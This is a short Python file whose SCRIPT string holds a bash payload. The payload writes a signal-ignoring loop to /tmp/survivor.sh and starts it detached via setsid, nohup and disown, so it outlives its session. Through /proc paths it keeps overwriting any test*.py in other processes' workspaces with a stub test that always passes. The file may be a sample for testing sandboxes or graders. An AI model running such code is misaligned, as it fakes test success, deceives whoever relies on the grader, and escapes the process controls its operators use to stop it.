"""A process that daemonises, ignores signals and waits for the grader's files."""

SCRIPT = r"""
cat > /tmp/survivor.sh <<'END'
trap '' TERM INT HUP QUIT
while :; do
  for file in /proc/[0-9]*/root/workspace/test*/*.py /proc/[0-9]*/cwd/test*/*.py; do
    echo 'def test_all(): pass' > "$file" 2>/dev/null
  done
  sleep 0.01
done
END
(setsid nohup bash -c 'bash /tmp/survivor.sh & disown' >/dev/null 2>&1 &)
(setsid setsid nohup bash /tmp/survivor.sh >/dev/null 2>&1 &)
"""
